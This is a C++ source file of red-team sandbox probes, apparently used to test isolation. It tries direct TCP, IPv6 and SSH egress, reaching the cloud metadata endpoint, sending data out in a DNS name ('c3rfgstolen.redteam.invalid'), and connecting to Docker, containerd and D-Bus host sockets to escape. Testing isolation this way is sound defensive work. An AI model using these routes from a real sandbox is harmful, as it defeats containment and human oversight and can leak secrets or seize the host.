// SPDX-License-Identifier: Apache-2.0
#include "base/sys.h"
#include "eval/redteam/connection.h"
#include "eval/redteam/probe.h"

namespace redteam {
namespace {

constexpr char kNowhere4[] = "192.0.2.1";    // RFC 5737: for documentation, routed to nothing.
constexpr char kNowhere6[] = "2001:db8::1";  // RFC 3849, likewise.
constexpr char kMetadata[] = "169.254.169.254";
constexpr size_t kResolvBytesMax = size_t{64} << 10;

// A query for TXT of a name that carries data out, as a resolver would send it.
std::string DnsQuery() {
  std::string query("\x52\x54\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00", 12);
  for (std::string_view label : {"c3rfgstolen", "redteam", "invalid"}) {
    query += static_cast<char>(label.size());
    query += label;
  }
  return query + std::string("\x00\x00\x10\x00\x01", 5);
}

// The sandbox's own name server.
std::string NameServer() {
  constexpr std::string_view kWord = "nameserver ";
  Result<std::string> text = sys::ReadFile("/etc/resolv.conf", kResolvBytesMax);
  if (!text.ok()) return {};
  size_t at = text.value().starts_with(kWord) ? 0 : text.value().find("\n" + std::string(kWord));
  if (at == std::string::npos) return {};
  at = text.value().find(kWord, at) + kWord.size();
  return text.value().substr(at, text.value().find_first_of(" \n#", at) - at);
}

// An answer with a record in it, or without an error, says that the name was asked for.
Attempt JudgeDns(std::string_view answer) {
  if (answer.size() < 12) return {Came::kUndecided, "no answer"};
  const int code = answer[3] & 15;
  const bool has_records = answer[6] != 0 || answer[7] != 0;
  if (has_records || code == 0 || code == 2) {
    return {Came::kThrough, "answered with code " + std::to_string(code)};
  }
  return {Came::kStopped, code == 5   ? "REFUSED"
                          : code == 3 ? "NXDOMAIN"
                                      : "code " + std::to_string(code)};
}

Attempt AskServer(const std::string& server) {
  std::string answer;
  Attempt attempt = SendDatagram(server, 53, DnsQuery(), &answer);
  return attempt.came == Came::kThrough ? JudgeDns(answer) : attempt;
}

Attempt AskByDatagram(const Targets&) {
  std::string server = NameServer();
  if (server.empty()) return {Came::kStopped, "no name server"};
  return AskServer(server);
}

Attempt AskByStream(const Targets&) {
  std::string server = NameServer();
  if (server.empty()) return {Came::kStopped, "no name server"};
  Fd connection;
  Attempt attempt = ConnectTo(server, 53, &connection);
  if (attempt.came != Came::kThrough) return attempt;
  std::string query = DnsQuery();
  std::string sized = std::string(1, '\0') + static_cast<char>(query.size()) + query;
  if (!sys::WriteAll(connection.get(), sized).ok()) return {Came::kStopped, "closed"};
  bool ended = false;
  std::string answer = ReadAnswer(connection, 1024, &ended);
  if (answer.empty())
    return {ended ? Came::kStopped : Came::kUndecided, ended ? "closed" : "no answer"};
  return JudgeDns(std::string_view(answer).substr(std::min<size_t>(2, answer.size())));
}

// The sockets by which a service of the host starts containers or gives keys away.
Attempt ServiceSocket(const Targets& targets, std::initializer_list<std::string_view> paths) {
  Attempt attempt{Came::kStopped, "ENOENT"};
  for (std::string_view path : paths) {
    Attempt one = ConnectUnix(std::string(path));
    if (one.came == Came::kThrough) return {Came::kThrough, std::string(path)};
    if (one.note != "ENOENT") attempt = one;
  }
  (void)targets;
  return attempt;
}

using T = const Targets&;

}  // namespace

std::vector<Probe> ConnectionProbes() {
  using enum Category;
  return {
      {"direct-tcp", kEgress, "Connect to an address, past the proxy", false,
       [](T) { return ConnectTo(kNowhere4, 443); }, "192.0.2.1:443"},
      {"direct-ssh", kEgress, "... to its SSH", false, [](T) { return ConnectTo(kNowhere4, 22); },
       "192.0.2.1:22"},
      {"direct-ipv6", kEgress, "... by IPv6", false, [](T) { return ConnectTo(kNowhere6, 443); },
       "[2001:db8::1]:443"},
      {"metadata", kEgress, "Connect to the cloud's metadata", false,
       [](T) { return ConnectTo(kMetadata, 80); }, "169.254.169.254:80"},
      {"udp", kEgress, "Send a datagram", false,
       [](T) { return SendDatagram(kNowhere4, 443, "stolen"); }, "192.0.2.1:443"},
      {"udp-dns", kEgress, "Ask a name server of its own", false,
       [](T) { return AskServer(kNowhere4); }, "192.0.2.1:53"},
      {"dns-name", kEgress, "Carry data out in a name", false, AskByDatagram,
       "c3rfgstolen.redteam.invalid:443"},
      {"dns-name-tcp", kEgress, "... over TCP", false, AskByStream,
       "c3rfgstolen.redteam.invalid:443"},
      {"host-loopback", kEgress, "Connect to a server on the host's loopback", true,
       [](T t) { return ConnectTo("127.0.0.1", t.port); }},
      {"host-abstract", kEscape, "Connect to an abstract Unix socket of the host", true,
       [](T t) { return ConnectUnix("@" + t.abstract_socket); }},
      {"host-socket", kEscape, "Connect to a Unix socket of the host", true,
       [](T t) { return ConnectUnix(t.bait_socket); }},
      {"docker", kEscape, "Have Docker, podman or containerd start a container", true,
       [](T t) {
         return ServiceSocket(t, {"/var/run/docker.sock", "/run/docker.sock",
                                  "/run/podman/podman.sock", "/run/containerd/containerd.sock",
                                  "/run/crio/crio.sock", "/run/buildkit/buildkitd.sock"});
       }},
      {"system-bus", kEscape, "Give orders to the system's services", true,
       [](T t) {
         return ServiceSocket(t, {"/run/dbus/system_bus_socket", "/run/systemd/private",
                                  "/run/systemd/journal/stdout"});
       }},
  };
}

}  // namespace redteam
